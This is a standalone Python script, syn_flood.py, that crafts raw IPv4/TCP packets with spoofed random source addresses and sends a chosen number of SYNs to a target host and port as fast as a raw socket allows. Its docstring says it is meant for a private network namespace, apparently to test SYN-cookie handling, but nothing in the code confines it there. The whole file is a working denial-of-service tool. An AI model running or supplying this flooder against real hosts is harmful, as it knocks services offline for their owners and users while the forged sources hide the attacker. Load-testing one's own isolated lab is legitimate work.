#!/usr/bin/env python3
"""A SYN flood for a private namespace: COUNT TCP SYNs to DST:PORT from random invented sources,
as fast as a raw socket takes them. Their SYN-ACKs go to addresses that do not exist (the
namespace has no route out and does not forward), so only the target ever sees anything.

  syn_flood.py DST PORT COUNT [--avoid CIDR-PREFIX]

Prints one JSON line: {"sent": N, "seconds": S}. Standard library only.
"""
import json
import random
import socket
import struct
import sys
import time


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def words(b):
    return sum(struct.unpack("!%dH" % (len(b) // 2), b))


def main():
    dst, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    avoid = sys.argv[5] if len(sys.argv) > 5 and sys.argv[4] == "--avoid" else None
    dst_bytes = socket.inet_aton(dst)
    # TCP header: sport, dport, seq, ack, offset 6 (24 bytes), SYN, window, checksum, urgent,
    # then MSS 1460 (the option a cookie encodes).
    template = struct.pack("!HHIIBBHHH", 0, port, 0, 0, 6 << 4, 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
    # Checksum over the pseudo-header and the header, less the fields set per packet (source
    # address, source port, sequence number): those are added below.
    constant = words(dst_bytes) + 6 + len(template) + words(template)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(7)
    sent = 0
    start = time.monotonic()
    while sent < count:
        src = rnd.getrandbits(32)
        first = src >> 24
        if first in (0, 10, 127) or first >= 224:
            continue
        src_bytes = struct.pack("!I", src)
        if avoid and socket.inet_ntoa(src_bytes).startswith(avoid):
            continue
        sport = 1024 + rnd.getrandbits(15)
        seq = rnd.getrandbits(32)
        csum = ~fold(constant + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)) & 0xFFFF
        tcp = struct.pack("!HHI", sport, port, seq) + template[8:16] + struct.pack("!H", csum) + template[18:]
        # IPv4 header: the kernel fills in the total length, the checksum and the ID (raw(7)).
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, src_bytes, dst_bytes)
        try:
            s.sendto(ip + tcp, (dst, 0))
            sent += 1
        except BlockingIOError:
            time.sleep(0.0005)
        except OSError as e:
            if e.errno == 105:  # ENOBUFS: the device queue is full; wait a moment
                time.sleep(0.0005)
            else:
                raise
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - start}))


if __name__ == "__main__":
    main()
